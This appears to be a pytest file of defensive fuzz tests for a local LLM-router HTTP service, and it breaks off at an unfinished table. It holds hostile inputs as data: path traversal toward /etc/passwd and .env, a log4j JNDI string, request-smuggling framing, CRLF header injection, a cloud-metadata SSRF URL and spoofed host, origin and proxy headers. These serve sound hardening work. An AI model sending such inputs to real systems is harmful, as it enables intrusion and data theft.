"""Requests that no honest client sends, as bytes to a real gunicorn: 4xx in JSON, no harm."""

from __future__ import annotations

import json
import socket
import ssl
from collections.abc import Iterator
from typing import NamedTuple

import pytest
from conftest import Service

CHAT = "/v1/chat/completions"
JSON = "Content-Type: application/json"
LOCAL = "Host: localhost"
FINE = b'{"model":"router","messages":[{"role":"user","content":"hello"}]}'
CLOSED = 0  # no answer, only the end of the connection: where nobody can tell what was asked


def head(line: str, *headers: str) -> bytes:
    """A request head, its text sent as latin-1, so that any byte can stand in it."""
    return "\r\n".join([line, *headers, "", ""]).encode("latin-1")


def get(path: str, *headers: str, version: str = "HTTP/1.1") -> bytes:
    return head(f"GET {path} {version}", LOCAL, *headers)


def post(body: bytes | str, *headers: str, path: str = CHAT, kind: str = JSON) -> bytes:
    """A well-formed POST with any body; `headers` are added, `kind` is its content type."""
    data = body if isinstance(body, bytes) else body.encode()
    lines = [LOCAL, f"Content-Length: {len(data)}", *filter(None, [kind]), *headers]
    return head(f"POST {path} HTTP/1.1", *lines) + data


def chat(**members: object) -> bytes:
    """A chat body that is fine but for `members`."""
    return post(json.dumps({**json.loads(FINE), **members}))


def said(**message: object) -> bytes:
    return chat(messages=[message])


def chunked(*pieces: bytes, headers: tuple[str, ...] = (JSON,), path: str = CHAT) -> bytes:
    """A chunked POST whose framing stands in `pieces` as it is."""
    start = head(f"POST {path} HTTP/1.1", LOCAL, "Transfer-Encoding: chunked", *headers)
    return start + b"".join(pieces)


def chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(data), data)


def nested(depth: int) -> str:
    return '{"messages":[{"role":"user","content":"x"}],"x":' + "[" * depth + "]" * depth + "}"


def number(text: str) -> str:
    return FINE.decode()[:-1] + f',"temperature":{text}}}'


def client_hello() -> bytes:
    """The first bytes of a TLS connection."""
    sent = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost")
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return sent.read()


BODIES = {
    "empty-body": (post(b""), 400),
    "no-length-at-all": (head(f"POST {CHAT} HTTP/1.1", LOCAL, JSON), 400),
    "not-json": (post("hello"), 400),
    "half-json": (post(FINE[:-3]), 400),
    "two-values": (post(FINE + FINE), 400),
    "trailing-comma": (post(FINE[:-1] + b",}"), 400),
    "single-quotes": (post(FINE.replace(b'"', b"'")), 400),
    "comment": (post(b"/* hi */" + FINE), 400),
    "json-array": (post(b"[" + FINE + b"]"), 400),
    "json-string": (post('"hello"'), 400),
    "json-number": (post("42"), 400),
    "json-null": (post("null"), 400),
    "json-true": (post("true"), 400),
    "blanks-only": (post(" \r\n\t "), 400),
    "bad-utf-8": (post(FINE.replace(b"hello", b"\xff\xfe")), 400),
    "overlong-utf-8": (post(FINE.replace(b"hello", b"\xc0\xaf")), 400),
    "surrogate-as-utf-8": (post(FINE.replace(b"hello", b"\xed\xa0\x80")), 400),
    "cut-utf-8": (post(FINE.replace(b"hello", b"\xe2\x82")), 400),
    "latin-1": (post('{"messages":"é"}'.encode("latin-1")), 400),
    "utf-16": (post(FINE.decode().encode("utf-16")), 400),
    "utf-32": (post(FINE.decode().encode("utf-32")), 400),
    "utf-8-with-bom": (post(b"\xef\xbb\xbf" + FINE), 400),
    "nul-bytes": (post(b"\0" * 100), 400),
    "nul-in-a-string": (post(FINE.replace(b"hello", b"a\0b")), 400),
    "newline-in-a-string": (post(FINE.replace(b"hello", b"a\nb")), 400),
    "bad-escape": (post(FINE.replace(b"hello", rb"\x41")), 400),
    "cut-unicode-escape": (post(FINE.replace(b"hello", rb"\u12")), 400),
    "binary": (post(bytes(range(256)) * 8), 400),
    "depth-65": (post(nested(65)), 400),
    "depth-5000": (post(nested(5_000)), 400),
    "depth-never-closed": (post("[" * 100_000), 400),
    "depth-of-objects-never-closed": (post('{"a":' * 100_000), 400),
    "nan": (post(number("NaN")), 400),
    "infinity": (post(number("Infinity")), 400),
    "minus-infinity": (post(number("-Infinity")), 400),
    "integer-of-5000-digits": (post(number("9" * 5000)), 400),
    "number-beyond-all-floats": (post(number("1e999")), 400),
    "number-below-all-floats": (post(number("-1e999")), 400),
    "number-of-400-digits": (post(number("1" * 400 + ".5")), 400),
    "integer-of-400-digits": (post(number("-" + "1" * 400)), 400),
    "hex-number": (post(number("0x10")), 400),
    "leading-zero": (post(number("01")), 400),
    "plus-sign": (post(number("+1")), 400),
    "dot-alone": (post(number("1.")), 400),
}

TYPES = {
    "empty-object": (post("{}"), 422),
    "no-messages": (post('{"model":"router"}'), 422),
    "messages-empty": (chat(messages=[]), 422),
    "messages-null": (chat(messages=None), 422),
    "messages-a-string": (chat(messages="hello"), 422),
    "messages-an-object": (chat(messages={"role": "user"}), 422),
    "messages-a-number": (chat(messages=1), 422),
    "message-null": (chat(messages=[None]), 422),
    "message-a-string": (chat(messages=["hello"]), 422),
    "message-a-list": (chat(messages=[[]]), 422),
    "message-empty": (said(), 422),
    "role-missing": (said(content="x"), 422),
    "role-null": (said(role=None, content="x"), 422),
    "role-a-number": (said(role=1, content="x"), 422),
    "role-a-list": (said(role=["user"], content="x"), 422),
    "content-a-number": (said(role="user", content=1), 422),
    "content-true": (said(role="user", content=True), 422),
    "content-an-object": (said(role="user", content={"text": "x"}), 422),
    "content-a-list-of-strings": (said(role="user", content=["x"]), 422),
    "content-a-list-of-null": (said(role="user", content=[None]), 422),
    "second-message-wrong": (chat(messages=[{"role": "user", "content": "x"}, 7]), 422),
    "model-null": (chat(model=None), 422),
    "model-a-number": (chat(model=7), 422),
    "model-a-list": (chat(model=["router"]), 422),
    "model-an-object": (chat(model={}), 422),
    "model-of-no-category": (chat(model="router/../../etc/passwd"), 404),
    "model-of-no-category-with-a-surrogate": (chat(model="router/\ud800"), 404),
    "stream-a-string": (chat(stream="true"), 422),
    "stream-a-number": (chat(stream=1), 422),
    "stream-options-a-list": (chat(stream_options=[]), 422),
    "include-usage-a-string": (chat(stream_options={"include_usage": "yes"}), 422),
    "tools-an-object": (chat(tools={}), 422),
    "tools-of-strings": (chat(tools=["bash"]), 422),
    "tool-choice-a-number": (chat(tool_choice=1), 422),
    "tool-choice-a-list": (chat(tool_choice=[]), 422),
    "the-last-of-two-messages-counts": (post(FINE[:-1] + b',"messages":[]}'), 422),
    "route-empty": (post("{}", path="/route"), 422),
    "route-text-a-number": (post('{"text":1}', path="/route"), 422),
    "route-text-null": (post('{"text":null}', path="/route"), 422),
    "route-messages-wrong": (post('{"messages":[{}]}', path="/route"), 422),
}

CATEGORY = {"name": "creative", "models": ["acme/one"]}


def category(path: str = "/config/category", **members: object) -> bytes:
    body = {key: value for key, value in {**CATEGORY, **members}.items() if value is not ...}
    return post(json.dumps(body), path=path)


ADMIN = {
    "category-empty": (post("{}", path="/config/category"), 422),
    "category-unknown-key": (category(base_url="http://evil.example"), 422),
    "category-api-key": (category(api_key_env="HOME"), 422),
    "category-named-router": (category(name="router"), 422),
    "category-name-empty": (category(name=""), 422),
    "category-name-climbs": (category(name="../x"), 422),
    "category-name-with-newline": (category(name="abc\n"), 422),
    "category-name-too-long": (category(name="a" * 65), 422),
    "category-name-upper-case": (category(name="Creative"), 422),
    "category-name-a-number": (category(name=1), 422),
    "category-no-models": (category(models=...), 422),
    "category-models-empty": (category(models=[]), 422),
    "category-models-a-string": (category(models="acme/one"), 422),
    "category-models-twice": (category(models=["acme/one", "acme/one"]), 422),
    "category-33-models": (category(models=[f"a/{n}" for n in range(33)]), 422),
    "category-model-with-blank": (category(models=["a b"]), 422),
    "category-model-with-newline": (category(models=["a\n"]), 422),
    "category-model-of-201": (category(models=["a" * 201]), 422),
    "category-keyword-of-signs": (category(keywords=["***"]), 422),
    "category-keyword-of-101": (category(keywords=["a" * 101]), 422),
    "category-10001-keywords": (category(keywords=["a"] * 10_001), 422),
    "category-keyword-a-lone-surrogate": (category(keywords=["a\ud800"]), 422),
    "category-description-a-lone-surrogate": (category(description="\udfff"), 422),
    "category-description-of-501": (category(description="x" * 501), 422),
    "mapping-of-no-category": (
        post('{"category":"nothing","models":["acme/one"]}', path="/config/model-mapping"),
        404,
    ),
    "mapping-with-keywords": (
        post('{"category":"code","models":["a/b"],"keywords":[]}', path="/config/model-mapping"),
        422,
    ),
    "delete-climbs": (head("DELETE /config/category/../../etc HTTP/1.1", LOCAL), 404),
    "delete-a-built-in": (head("DELETE /config/category/code HTTP/1.1", LOCAL), 400),
    "delete-a-surrogate": (head("DELETE /config/category/%ED%A0%80 HTTP/1.1", LOCAL), 404),
    "delete-a-line-break": (head("DELETE /config/category/%0d%0aX:1 HTTP/1.1", LOCAL), 404),
    "if-match-of-another-version": (
        post(json.dumps(CATEGORY), 'If-Match: "nothing"', path="/config/category"),
        412,
    ),
    "reset-of-no-model": (post("", path="/circuit-breaker/reset/no/such/model", kind=""), 404),
    "reset-of-nul": (post("", path="/circuit-breaker/reset/%00", kind=""), 404),
    "reset-with-a-form": (
        post("a=b", path="/circuit-breaker/reset-all", kind="Content-Type: text/plain"),
        415,
    ),
}

KINDS = {
    "form": (post("a=b", kind="Content-Type: application/x-www-form-urlencoded"), 415),
    "json-as-form": (post(FINE, kind="Content-Type: application/x-www-form-urlencoded"), 415),
    "multipart": (
        post(b"--x\r\n\r\n--x--", kind="Content-Type: multipart/form-data; boundary=x"),
        415,
    ),
    "multipart-without-boundary": (post("x", kind="Content-Type: multipart/form-data"), 415),
    "text-plain": (post(FINE, kind="Content-Type: text/plain"), 415),
    "xml": (post("<a/>", kind="Content-Type: application/xml"), 415),
    "no-content-type": (post(FINE, kind=""), 415),
    "empty-content-type": (post(FINE, kind="Content-Type:"), 415),
    "content-type-of-signs": (post(FINE, kind="Content-Type: ;;;=,/"), 415),
    "json-patch": (post(FINE, kind="Content-Type: application/json-patch+json"), 415),
    "gzip": (post(b"\x1f\x8b\x08\0\0", "Content-Encoding: gzip"), 415),
    "deflate-that-is-none": (post(FINE, "Content-Encoding: deflate"), 415),
    "br-then-identity": (post(FINE, "Content-Encoding: br, identity"), 415),
    "get-with-a-form": (
        get("/health", "Content-Length: 3", "Content-Type: text/plain") + b"a=b",
        415,
    ),
    "chunked-form": (chunked(b"0\r\n\r\n", headers=("Content-Type: text/plain",)), 415),
}

SIZES = {
    "declared-17-mb": (post("", "X: y").replace(b"Length: 0", b"Length: 17825792"), 413),
    "declared-an-exabyte": (post("").replace(b"Length: 0", b"Length: 1152921504606846976"), 413),
    "chunked-17-mb": (chunked(*[chunk(b" " * 1_048_576)] * 17, b"0\r\n\r\n"), 413),
    "one-chunk-of-17-mb": (chunked(chunk(b" " * 17_825_792), b"0\r\n\r\n"), 413),
    "category-17-mb": (
        post("", path="/config/category").replace(b"Length: 0", b"Length: 17825792"),
        413,
    ),
    "header-of-100-kb": (get("/health", "X-Long: " + "a" * 100_000), 431),
    "header-of-9-kb": (get("/health", "X-Long: " + "a" * 9_000), 431),
    "200-headers": (get("/health", *[f"X-{n}: 1" for n in range(200)]), 431),
    "one-header-name-of-10-kb": (get("/health", "X" * 10_000 + ": 1"), 431),
    "path-of-3-kb": (get("/" + "a" * 3_000), 404),
    "path-of-100-kb": (get("/" + "a" * 100_000), 414),
    "query-of-100-kb": (get("/health?" + "a" * 100_000), 414),
    "model-id-of-4-kb": (get("/v1/models/" + "a/" * 1_900), 404),
    "method-of-100-kb": (head("G" * 100_000 + " / HTTP/1.1", LOCAL), 414),
}

FRAMES = {
    "two-lengths": (post(FINE, "Content-Length: 5"), 400),
    "two-equal-lengths": (post(FINE, f"Content-Length: {len(FINE)}"), 400),
    "lengths-in-a-list": (post("").replace(b"Length: 0", b"Length: 5, 5"), 400),
    "negative-length": (post("").replace(b"Length: 0", b"Length: -1"), 400),
    "length-with-plus": (post("").replace(b"Length: 0", b"Length: +5"), 400),
    "length-in-hex": (post("").replace(b"Length: 0", b"Length: 0x5"), 400),
    "length-a-word": (post("").replace(b"Length: 0", b"Length: five"), 400),
    "length-empty": (post("").replace(b"Length: 0", b"Length: "), 400),
    "length-in-arabic-digits": (post("").replace(b"Length: 0", "Length: ٥".encode()), 400),
    "length-of-5000-digits": (post("").replace(b"Length: 0", b"Length: " + b"9" * 5000), 400),
    "te-and-cl": (chunked(chunk(FINE), b"0\r\n\r\n", headers=(JSON, "Content-Length: 5")), 400),
    "cl-and-te": (post(FINE, "Transfer-Encoding: chunked"), 400),
    "te-gzip": (post(b"", "Transfer-Encoding: gzip").replace(b"Content-Length: 0\r\n", b""), 400),
    "te-gzip-chunked": (chunked(b"0\r\n\r\n").replace(b": chunked", b": gzip, chunked"), 400),
    "te-chunked-gzip": (chunked(b"0\r\n\r\n").replace(b": chunked", b": chunked, gzip"), 400),
    "te-twice-chunked": (chunked(b"0\r\n\r\n").replace(b": chunked", b": chunked, chunked"), 400),
    "te-unknown": (chunked(b"0\r\n\r\n").replace(b": chunked", b": xchunked"), 400),
    "te-empty": (post(FINE, "Transfer-Encoding:"), 400),
    "te-quoted": (chunked(b"0\r\n\r\n").replace(b": chunked", b': "chunked"'), 400),
    "te-with-a-parameter": (chunked(b"0\r\n\r\n").replace(b": chunked", b": chunked;a=b"), 400),
    "te-with-a-comma": (chunked(b"0\r\n\r\n").replace(b": chunked", b": ,chunked"), 400),
    "te-with-a-hard-blank": (chunked(b"0\r\n\r\n").replace(b": chunked", b": chunked\xa0"), 400),
    "te-with-a-vertical-tab": (chunked(b"0\r\n\r\n").replace(b": chunked", b": \x0bchunked"), 400),
    "te-in-http-1.0": (chunked(b"0\r\n\r\n").replace(b"HTTP/1.1", b"HTTP/1.0"), 400),
    "chunk-size-no-hex": (chunked(b"xyz\r\nabc\r\n0\r\n\r\n"), 400),
    "chunk-size-negative": (chunked(b"-5\r\nhello\r\n0\r\n\r\n"), 400),
    "chunk-size-with-0x": (chunked(b"0x5\r\nhello\r\n0\r\n\r\n"), 400),
    "chunk-size-underscore": (chunked(b"1_0\r\nhello\r\n0\r\n\r\n"), 400),
    "chunk-size-empty": (chunked(b"\r\nhello\r\n0\r\n\r\n"), 400),
    "chunk-size-too-small": (chunked(b"3\r\nhello\r\n0\r\n\r\n"), 400),
    "chunk-size-too-large": (chunked(b"7\r\nhello\r\n0\r\n\r\n"), 400),
    "chunk-without-line-end": (chunked(b"5\r\nhello0\r\n\r\n"), 400),
    "chunk-extension-with-a-bare-newline": (chunked(b"5;a\nb\r\nhello\r\n0\r\n\r\n"), 400),
    "chunk-extension-of-100-kb": (chunked(b"5;" + b"a" * 100_000 + b"\r\nhello\r\n"), 400),
    "trailer-without-colon": (chunked(chunk(FINE), b"0\r\nbad trailer\r\n\r\n"), 400),
    "trailer-with-nul": (chunked(chunk(FINE), b"0\r\nX: a\0b\r\n\r\n"), 400),
    "trailer-of-100-kb": (chunked(chunk(FINE), b"0\r\nX: " + b"a" * 100_000 + b"\r\n\r\n"), 400),
    "chunked-bad-utf-8": (chunked(chunk(b'{"a":"\xff"}'), b"0\r\n\r\n"), 400),
    "chunked-nothing": (chunked(b"0\r\n\r\n"), 400),
    "chunked-lies-to-the-admin": (chunked(b"zz\r\n", path="/config/category"), 400),
    "chunked-lies-to-the-dry-run": (chunked(b"zz\r\n", path="/route"), 400),
}

LINES = {
    "no-host": (head("GET /health HTTP/1.1"), 403),
    "empty-host": (head("GET /health HTTP/1.1", "Host:"), 403),
    "two-hosts": (get("/health", "Host: evil.example"), 400),
    "nul-in-a-header": (get("/health", "X: a\0b"), 400),
    "nul-in-a-header-name": (get("/health", "X\0: a"), 400),
    "nul-in-the-path": (get("/hea\0lth"), 400),
    "header-with-a-bare-cr": (get("/health", "X: a\rb"), 400),
    "header-folded": (get("/health", "X: a", " b"), 400),
    "header-folded-first": (head("GET /health HTTP/1.1", " Host: localhost"), 400),
    "header-without-colon": (get("/health", "hello"), 400),
    "header-without-name": (get("/health", ": hello"), 400),
    "header-name-with-blank": (get("/health", "X : hello"), 400),
    "header-name-not-ascii": (get("/health", "Xé: hello"), 400),
    "header-name-with-brackets": (get("/health", "X(y): hello"), 400),
    "version-9.9": (get("/health", version="HTTP/9.9"), 400),
    "version-0.9": (get("/health", version="HTTP/0.9"), 400),
    "version-2.0": (get("/health", version="HTTP/2.0"), 400),
    "version-missing": (b"GET /health\r\nHost: localhost\r\n\r\n", 400),
    "version-in-lower-case": (get("/health", version="http/1.1"), 400),
    "version-of-another-protocol": (get("/health", version="RTSP/1.0"), 400),
    "version-with-many-digits": (get("/health", version="HTTP/1.11"), 400),
    "http-2-preface": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0", 400),
    "method-in-lower-case": (head("get /health HTTP/1.1", LOCAL), 400),
    "method-of-signs": (head("<script> /health HTTP/1.1", LOCAL), 400),
    "method-empty": (head(" /health HTTP/1.1", LOCAL), 400),
    "method-unknown": (head("BREW /health HTTP/1.1", LOCAL), 405),
    "method-trace": (head("TRACE /health HTTP/1.1", LOCAL), 405),
    "method-options": (head("OPTIONS /health HTTP/1.1", LOCAL), 405),
    "method-options-star": (head("OPTIONS * HTTP/1.1", LOCAL), 404),
    "method-connect": (head("CONNECT evil.example:443 HTTP/1.1", LOCAL), 404),
    "method-get-on-chat": (get(CHAT), 405),
    "method-put-on-config": (head("PUT /config HTTP/1.1", LOCAL), 405),
    "method-patch-on-a-category": (head("PATCH /config/category/code HTTP/1.1", LOCAL), 405),
    "line-feeds-alone": (b"GET /health HTTP/1.1\nHost: localhost\n\n", 400),
    "tabs-for-blanks": (get("/health").replace(b"GET /health ", b"GET\t/health\t"), 400),
    "control-in-the-path": (get("/hea\x01lth"), 400),
    "control-in-a-header": (get("/health", "X: \x01\x7f"), 400),
    "two-content-types": (post(FINE, "Content-Type: text/plain"), 400),
    "websocket": (get("/", "Upgrade: websocket", "Connection: Upgrade"), 400),
    "line-of-words": (b"hello there general\r\n\r\n", 400),
    "line-of-four-parts": (head("GET /health HTTP/1.1 x", LOCAL), 400),
    "line-of-blanks": (b"   \r\n\r\n", 400),
    "line-of-bytes": (b"\xff\xfe\xfd\r\n\r\n", 400),
    "smtp": (b"EHLO evil.example\r\nMAIL FROM:<a@b>\r\n\r\n", 400),
    "redis": (b"*1\r\n$4\r\nINFO\r\n\r\n", 400),
    "proxy-protocol": (b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + get("/health"), 400),
    "expect-a-wonder": (post(FINE, "Expect: wonder"), 417),
    "expect-twice": (post(FINE, "Expect: 100-continue, wonder"), 417),
    "expect-and-lie": (post("nonsense", "Expect: 100-continue"), 400),
}

PATHS = {
    "absolute-form-of-another-host": (get("http://evil.example/health"), 403),
    "absolute-form-of-a-metadata-service": (get("http://169.254.169.254/latest/meta-data"), 404),
    "absolute-form-of-a-half-ipv6": (get("http://[::1/health"), 400),
    "absolute-form-not-ascii": (get("http://\xbd/health"), 400),
    "model-of-brackets": (get("/v1/models/http://x["), 404),
    "brackets": (get("//["), 404),
    "path-parameter": (get("/health;a=b"), 404),
    "path-of-another-host": (get("//evil.example/"), 404),
    "double-slash-before-a-closed-door": (
        post("", "Via: x", path="//circuit-breaker/reset-all", kind=""),
        403,
    ),
    "closed-door-spelled-otherwise": (
        post("", "Via: x", path="/%63ircuit-breaker/reset-all", kind=""),
        403,
    ),
    "double-slash-inside": (post(FINE, path="/v1//chat/completions"), 404),
    "slash-at-the-end": (post(FINE, path=CHAT + "/"), 404),
    "encoded-nul": (get("/health%00"), 404),
    "encoded-nul-in-a-model": (get("/v1/models/%00"), 404),
    "encoded-bad-utf-8": (get("/v1/models/%ff%fe"), 404),
    "encoded-half-a-byte": (get("/health%"), 404),
    "encoded-no-hex": (get("/%zz"), 404),
    "encoded-line-break": (get("/v1/models/%0d%0aSet-Cookie:%20a=b"), 404),
    "bytes-that-are-not-ascii": (get("/v1/models/\xe9\xff"), 400),
    "climbing": (get("/../../etc/passwd"), 404),
    "climbing-from-models": (get("/v1/models/../../../etc/passwd"), 404),
    "climbing-encoded": (get("/%2e%2e/%2e%2e/etc/passwd"), 404),
    "climbing-with-backslashes": (get("/..\\..\\etc\\passwd"), 404),
    "climbing-to-the-source": (get("/router.py"), 404),
    "climbing-to-the-routes": (get("/routes.json"), 404),
    "climbing-to-git": (get("/.git/config"), 404),
    "climbing-to-env": (get("/.env"), 404),
    "template": (get("/{{7*7}}"), 404),
    "log4j": (get("/${jndi:ldap://evil.example/a}"), 404),
    "upper-case": (get("/HEALTH"), 404),
    "star": (get("*"), 400),
    "fragment": (get("/nothing#health"), 404),
    "no-slash": (get("health"), 400),
}

PROXIES = """Forwarded Forwarded-For Via X-Forwarded X-Forwarded-Host X-Forwarded-Port
X-Forwarded-Proto X-Forwarded-Server X-Original-Forwarded-For X-Original-Host X-Real-IP X-Client-IP
X-Cluster-Client-IP X-Azure-ClientIP X-Remote-Addr X-Envoy-External-Address CF-Connecting-IP
True-Client-IP Fastly-Client-IP CDN-Loop"""
DOORS = {
    "foreign-host": (head("GET /health HTTP/1.1", "Host: evil.example"), 403),
    "foreign-host-that-begins-like-ours": (
        head("GET /health HTTP/1.1", "Host: localhost.evil.example"),
        403,
    ),
    "host-with-a-user": (head("GET /health HTTP/1.1", "Host: localhost@evil.example"), 403),
    "host-with-a-comma": (head("GET /health HTTP/1.1", "Host: localhost, evil.example"), 403),
    "host-with-a-path": (head("GET /health HTTP/1.1", "Host: evil.example/localhost"), 403),
    "host-not-ascii": (head("GET /health HTTP/1.1", "Host: \xe9vil"), 403),
    "host-with-a-port-of-letters": (
        head("GET /health HTTP/1.1", "Host: localhost:evil.example"),
        403,
    ),
    "host-after-a-bracket": (head("GET /health HTTP/1.1", "Host: [localhost]evil.example"), 403),
    "host-with-a-dot": (head("GET /health HTTP/1.1", "Host: localhost."), 403),
    "host-a-bare-integer": (head("GET /health HTTP/1.1", "Host: 2130706433"), 403),
    "host-half-an-ipv6": (head("GET /health HTTP/1.1", "Host: [::1"), 403),
    "host-of-signs": (head("GET /health HTTP/1.1", "Host: <script>"), 403),
    "foreign-origin": (post(FINE, "Origin: https://evil.example"), 403),
    "null-origin": (post(FINE, "Origin: null"), 403),
    "origin-empty": (post(FINE, "Origin:"), 403),
    "origin-of-another-port": (post(FINE, "Origin: http://localhost:1"), 403),
    "origin-of-signs": (post(FINE, "Origin: http://[::1"), 403),
    "origin-half-an-ipv6": (post(FINE, "Origin: http://[evil"), 403),
    "origin-with-odd-letters": (post(FINE, "Origin: http://evil\u00bd.example"), 403),
    "origin-no-address": (post(FINE, "Origin: http://[x]"), 403),
    "cross-site": (post(FINE, "Sec-Fetch-Site: cross-site"), 403),
    "same-site": (post(FINE, "Sec-Fetch-Site: same-site"), 403),
    "sec-fetch-site-unknown": (post(FINE, "Sec-Fetch-Site: hello"), 403),
    "foreign-page-resets-circuits": (
        post("", "Origin: https://evil.example", path="/circuit-breaker/reset-all", kind=""),
        403,
    ),
    "admin-behind-a-proxy": (
        post(json.dumps(CATEGORY), "X-Forwarded-For: 127.0.0.1", path="/config/category"),
        403,
    ),
    **{
        f"admin-behind-a-proxy-that-says-{name}": (
            post(json.dumps(CATEGORY), f"{name}: 127.0.0.1", path="/config/category"),
            403,
        )
        for name in PROXIES.split()
    },
    "admin-over-http-1.0": (
        post(json.dumps(CATEGORY), path="/config/category").replace(b"HTTP/1.1", b"HTTP/1.0"),
        403,
    ),
    "admin-under-an-address-not-ours": (
        post("", path="/circuit-breaker/reset-all", kind="").replace(b"localhost", b"192.0.2.1"),
        403,
    ),
}

ENDS = {
    "nothing-at-all": (b"", {CLOSED}),
    "one-byte": (b"G", {CLOSED}),
    "half-a-line": (b"GET /hea", {CLOSED}),
    "half-a-head": (b"GET /health HTTP/1.1\r\nHost: loc", {CLOSED}),
    "line-ends-only": (b"\r\n\r\n\r\n", {CLOSED, 400}),
    "body-cut-short": (post(FINE)[:-10], {CLOSED, 499}),
    "body-never-sent": (post(FINE)[: -len(FINE)], {CLOSED, 499}),
    "chunk-cut-short": (chunked(b"40\r\n" + FINE[:20]), {CLOSED, 400, 499}),
    "chunks-never-end": (chunked(chunk(FINE)), {CLOSED, 400, 499}),
    "chunk-size-huge": (chunked(b"f" * 400 + b"\r\nhello\r\n"), {CLOSED, 400, 413, 499}),
    "chunk-size-cut-short": (chunked(b"4"), {CLOSED, 400, 499}),
    "admin-body-cut-short": (category()[:-5], {CLOSED, 499}),
    "dry-run-body-cut-short": (post('{"text":"a"}', path="/route")[:-5], {CLOSED, 499}),
    "expected-body-never-sent": (post(FINE, "Expect: 100-continue")[: -len(FINE)], {CLOSED, 499}),
    "tls-client-hello": (client_hello(), {CLOSED, 400}),
    "ssh": (b"SSH-2.0-OpenSSH_9.2p1\r\n", {CLOSED, 400}),
    "random-bytes": (bytes(range(256)) * 40, {CLOSED, 400, 414}),
}


# Odd, and none of it malformed enough to be refused; what counts is that nothing breaks.
ODD = {
    "model-a-lone-surrogate": chat(model="\ud800"),
    "model-with-a-line-break": chat(model="a\r\nX-Injected: 1"),
    "model-of-5000": chat(model="é" * 5_000),
    "content-a-lone-surrogate": said(role="user", content="hello \ud800"),
    "content-of-nul": said(role="user", content="\0" * 1000),
    "content-of-accents": said(role="user", content="\u0300" * 50_000),
    "content-of-empty-parts": said(role="user", content=[{}, {"type": "text"}, {"text": [1]}]),
    "content-of-odd-types": said(role="user", content=[{"type": {"a": []}, "text": 5}]),
    "content-of-marks-never-closed": said(role="user", content="<system-reminder>" * 5_000),
    "role-unknown": said(role="\ud800", content="x"),
    "tools-of-nothing": chat(tools=[{}] * 3_000),
    "tool-choice-of-nothing": chat(tool_choice={}),
    "number-of-308-digits": post(number("9" * 308)),
    "largest-of-all-floats": post(number("1.7976931348623157e308")),
    "400-digits-in-a-string": post(FINE.replace(b"hello", b"9" * 400)),
    "route-model-a-lone-surrogate": post(r'{"text":"x","model":"\ud800"}', path="/route"),
    "accept-of-no-version": get("/metrics", "Accept: application/openmetrics-text; version=abc"),
    "accept-of-half-a-version": get("/metrics", "Accept: text/plain; version=1..0"),
    "accept-not-ascii": get("/metrics", "Accept: text/plain; version=\xe9"),
    "accept-of-signs": get("/metrics", "Accept: text/plain;;=;q=x,,"),
    "query-of-bad-utf-8": get("/metrics?format=%ff%fe&%00"),
    "key-not-ascii": get("/health", "Authorization: Bearer \xff\xfe"),
    "range": get("/health", "Range: bytes=0-99999999999999999999"),
    "http-2-upgrade": get("/health", "Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings"),
    "scheme-headers-at-odds": get("/health", "X-Forwarded-Proto: https", "X-Forwarded-Ssl: off"),
    "script-name": get("/health", "SCRIPT_NAME: /x"),
    "length-with-underscore": post(FINE, "Content_Length: 5"),
    "charset-utf-16": post(FINE, kind="Content-Type: application/json; charset=utf-16"),
    "chunk-lies-nobody-reads": chunked(b"zz\r\n", path="/circuit-breaker/reset-all"),
}


@pytest.fixture(scope="module", autouse=True)
def nothing_is_logged_as_a_bug(shared_service: Service) -> Iterator[None]:
    """After all of them: no bug of ours and no traceback of gunicorn's in the log."""
    before = len(shared_service.log.read_text())
    yield
    lines = shared_service.log.read_text()[before:].splitlines()
    assert [line for line in lines if "internal_error" in line or "Traceback" in line] == []


class Reply(NamedTuple):
    """What came back; `status` is CLOSED when nothing did."""

    status: int
    headers: dict[str, str]
    body: bytes


def read_reply(file) -> Reply:
    """The next answer of a connection; a 100 on the way to it is passed over."""
    line = file.readline()
    if not line:
        return Reply(CLOSED, {}, b"")
    pairs = (field.decode("latin-1").partition(":") for field in iter(file.readline, b"\r\n"))
    headers = {name.lower(): value.strip() for name, _, value in pairs}
    status = int(line.split(b" ")[1])
    if status == 100:
        return read_reply(file)
    return Reply(status, headers, file.read(int(headers["content-length"])))


def send(service: Service, data: bytes, *, leave: bool = False) -> list[Reply]:
    """The answers to `data`: the first, or all until the end when we `leave` after sending."""
    with socket.create_connection(("127.0.0.1", service.port), timeout=5) as sock:
        try:
            sock.sendall(data)
            if leave:
                sock.shutdown(socket.SHUT_WR)
        except (BrokenPipeError, ConnectionResetError):
            pass  # it answered and closed before it had read all
        try:
            with sock.makefile("rb") as file:
                replies = [read_reply(file)]
                while leave and replies[-1].status:
                    replies.append(read_reply(file))
                return replies
        except ConnectionResetError:
            return [Reply(CLOSED, {}, b"")]


def assert_envelope(reply: Reply) -> None:
    error = json.loads(reply.body)["error"]

    assert reply.headers["content-type"] == "application/json"
    assert set(error) == {"message", "type", "param", "code"}
    assert error["message"]


def assert_unharmed(service: Service) -> None:
    """A usual chat is answered, and soon nothing is left in the air."""
    in_flight = (service.get("/metrics").json()["in_flight"] for _ in range(200))

    assert service.chat().json()["choices"][0]["message"]["content"] == "Hello from upstream"
    assert 0 in in_flight


def cases(table: dict[str, tuple]) -> list:
    return [pytest.param(*case, id=name) for name, case in table.items()]


REFUSED = {**BODIES, **TYPES, **ADMIN, **KINDS, **SIZES, **FRAMES, **LINES, **PATHS, **DOORS}


@pytest.mark.parametrize(("data", "status"), cases(REFUSED))
def test_a_malformed_request_gets_a_4xx_with_the_envelope(service, data, status):
    reply = send(service, data)[0]

    assert reply.status == status, reply.body[:300]
    assert_envelope(reply)
    assert_unharmed(service)


@pytest.mark.parametrize(("data", "statuses"), cases(ENDS))
def test_a_request_that_ends_too_early_is_refused_or_closed(service, data, statuses):
    *replies, last = send(service, data, leave=True)

    assert last.status == CLOSED
    assert {reply.status for reply in replies or [last]} <= statuses
    for reply in replies:
        assert_envelope(reply)
    assert_unharmed(service)


@pytest.mark.parametrize("data", [pytest.param(data, id=name) for name, data in ODD.items()])
def test_an_odd_request_is_answered_and_breaks_nothing(service, data):
    reply = send(service, data)[0]

    assert reply.status == 200, reply.body[:300]
    assert "x-injected" not in reply.headers
    assert_unharmed(service)


GARBAGE = {
